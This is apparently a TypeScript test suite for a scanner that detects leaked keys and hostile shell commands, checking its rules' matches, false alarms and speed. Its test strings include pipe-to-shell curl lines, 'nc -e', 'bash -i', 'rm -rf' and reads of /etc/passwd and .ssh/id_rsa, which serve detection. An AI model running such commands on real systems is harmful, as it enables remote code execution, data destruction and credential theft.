import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import test from 'ava';
import * as fc from 'fast-check';
import { compileScriptKernel } from '../../../src/detect/kernel/script-kernel.ts';
import { ANCHORS, RULES } from '../../../src/detect/rules/index.ts';
import type { Match, Rule } from '../../../src/detect/rules/rule.ts';
import { MAX_REACH } from '../../../src/detect/rules/rule.ts';

const KERNEL = compileScriptKernel(ANCHORS);
const WINDOW_BYTES = 65_536;

/** Every match in a latin1 text, one for each rule and start. Anchors may begin before it, as behind a line end. */
function matchesIn(text: string): Map<Rule, Match[]> {
  const bytes = Buffer.from(`\n${text}`, 'latin1');
  const hits = new Int32Array(4 * bytes.length + 2 * ANCHORS.length);
  const count = KERNEL.find(bytes, 0, hits);
  const found = new Map<Rule, Match[]>();
  for (let pair = 0; pair < count; pair++) {
    const rule = RULES[ANCHORS[hits[2 * pair + 1] ?? -1]?.rule ?? -1];
    const match = rule?.match(text, (hits[2 * pair] ?? 0) - 1);
    if (rule === undefined || match === undefined) continue;
    const all = found.get(rule) ?? [];
    found.set(rule, all);
    if (!all.some(({ from }) => from === match.from)) all.push({ from: match.from, to: match.to });
  }
  return found;
}

const matchesOf = (rule: Rule, text: string): readonly Match[] => matchesIn(text).get(rule) ?? [];

for (const rule of RULES) {
  test(`${rule.id} carries its proof`, (t) => {
    t.true(rule.hits.length >= 6);
    t.true(rule.misses.length >= 6);
    for (const text of [rule.summary, rule.advice, rule.falseAlarm, rule.source]) t.not(text, '');
  });

  for (const hit of rule.hits) {
    test(`${rule.id} finds ${JSON.stringify(hit)}`, (t) => {
      const [match, ...more] = matchesOf(rule, hit);
      t.deepEqual(more, []);
      t.truthy(match);
      for (const [before, after] of [
        ['.\n', '\n.'],
        ['{"a":"', '"}'],
        ['(', ')'],
      ] as const) {
        const moved = matchesOf(rule, before + hit + after);
        t.is(moved.length, 1, `between ${before} and ${after}`);
        t.is(moved[0]?.from, (match?.from ?? 0) + before.length);
      }
    });
  }

  for (const miss of rule.misses) {
    test(`${rule.id} passes over ${JSON.stringify(miss)}`, (t) => {
      t.deepEqual(matchesOf(rule, miss), []);
      t.deepEqual(matchesOf(rule, `.\n${miss}\n.`), []);
    });
  }

  test(`${rule.id} says the same with more text around it than it may look at`, (t) => {
    const filler = '. '.repeat(MAX_REACH);
    for (const hit of rule.hits) {
      const [match] = matchesOf(rule, `\n${hit}\n`);
      const [deep] = matchesOf(rule, `${filler}\n${hit}\n${filler}`);
      t.deepEqual(deep, match && { from: match.from + filler.length, to: match.to + filler.length });
    }
  });
}

test('a key is taken to its end', (t) => {
  const [aiKey, , pem] = RULES;
  const key = `sk-proj-${'aB3_-'.repeat(31)}Z`;
  const text = `Authorization: Bearer ${key}\r\n`;
  const [match] = aiKey === undefined ? [] : matchesOf(aiKey, text);
  t.is(text.slice(match?.from, match?.to), key);
  const lines = Array.from({ length: 49 }, () => 'MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0MIIEowIBAAKCAQEA0Z3VS5JJ');
  const block = ['-----BEGIN RSA PRIVATE KEY-----', ...lines, '-----END RSA PRIVATE KEY-----'];
  for (const lineEnd of ['\n', '\r\n', String.raw`\n`, String.raw`\\n`]) {
    const whole = block.join(lineEnd);
    const [span] = pem === undefined ? [] : matchesOf(pem, `"${whole}"`);
    t.deepEqual(span, { from: 1, to: 1 + whole.length });
  }
});

test('any blank run up to the reach lies between a pipe and its shell', (t) => {
  const rule = RULES.find(({ id }) => id === 'pipe_to_shell');
  if (rule === undefined) return t.fail();
  const count = fc.integer({ min: 1, max: 3900 });
  fc.assert(
    fc.property(
      count,
      fc.constantFrom(' ', '\t'),
      fc.constantFrom('bash', 'sudo sh\n', 'zsh -s', 'sh -'),
      (n, blank, end) => {
        t.is(matchesOf(rule, `curl http://h.test/x |${blank.repeat(n)}${end}`).length, 1);
      },
    ),
    { numRuns: 50 },
  );
  return undefined;
});

const PIECES = [
  ...RULES.flatMap(({ anchors }) =>
    anchors.map((classes) => String.fromCharCode(...classes.map((allowed) => Math.max(...[...allowed].slice(0, 40))))),
  ),
  'curl ',
  'curl http://a.b ',
  '| sh ',
  '|',
  'bash -i ',
  'sh -a ',
  'rm -rf a ',
  'nc -e a ',
  'nc a.b ',
  '\\',
  '\\\\\\n',
  '-----BEGIN PRIVATE KEY-----',
  '-----BEGIN PRIVATE KEY-----A\n',
  'sk-ant-',
  `sk-ant-${'a'.repeat(19)}.`,
  '/etc/passwd ',
  'echo ssh-rsa ',
  'ssh-rsa A',
  '.ssh/id_rsa-',
  'bash <',
  'sh -c "$(curl a',
  '<(curl ',
  'A=',
  '"',
  ' sh ',
  ' ',
  '\t',
  '/',
];

test('a hostile window is bounded work', (t) => {
  t.timeout(120_000);
  const slow: string[] = [];
  for (const piece of PIECES) {
    for (const text of [
      piece.repeat(WINDOW_BYTES / piece.length),
      `${piece}${' '.repeat(60)}`.repeat(WINDOW_BYTES / (piece.length + 60)),
      `${' '.repeat(3900)}${piece}`.repeat(WINDOW_BYTES / (piece.length + 3900)),
      `curl http://a.b ${piece.repeat(200)}|${' '.repeat(200)}sh `.repeat(WINDOW_BYTES / (piece.length * 200 + 220)),
    ]) {
      const before = performance.now();
      const found = matchesIn(text);
      const took = performance.now() - before;
      if (took > 2000) slow.push(`${JSON.stringify(piece)}: ${took} ms`);
      for (const all of found.values()) t.true(all.length <= WINDOW_BYTES / 8);
    }
  }
  t.deepEqual(slow, []);
});

/** Ordinary text with every true alarm in it. */
const CORPUS: readonly (readonly [file: string, alarms: readonly string[]])[] = [
  ['@types/node/fs.d.ts', ['unix_sensitive', 'unix_sensitive', 'unix_sensitive', 'unix_sensitive']],
  ['@types/node/child_process.d.ts', []],
  ['@types/node/net.d.ts', []],
  ['@types/node/process.d.ts', ['shell_exec']],
  ['@types/node/crypto.d.ts', []],
  ['typescript/README.md', []],
  ['piscina/README.md', []],
  ['winston/README.md', []],
  ['ava/readme.md', []],
  ['fast-check/README.md', []],
  ['pm2/README.md', ['pipe_to_shell']],
  ['lodash/lodash.js', []],
  ['node-forge/README.md', []],
  ['node-forge/lib/pem.js', []],
  ['node-forge/lib/ssh.js', []],
  ['node-forge/dist/forge.min.js', []],
  ['oxlint/configuration_schema.json', []],
];

for (const [file, alarms] of CORPUS) {
  const path = (createRequire(import.meta.url).resolve.paths('x') ?? []).map((folder) => `${folder}/${file}`);
  test(`ordinary text: ${file}`, (t) => {
    const text = path.map(readOrNothing).find((one) => one !== undefined);
    if (text === undefined) return t.fail(`${file} is not installed`);
    const found = [...matchesIn(text)].flatMap(([{ id }, all]) => all.map(() => id));
    t.deepEqual(found, alarms);
    return undefined;
  });
}

function readOrNothing(path: string): string | undefined {
  try {
    return readFileSync(path, 'latin1');
  } catch {
    return undefined;
  }
}
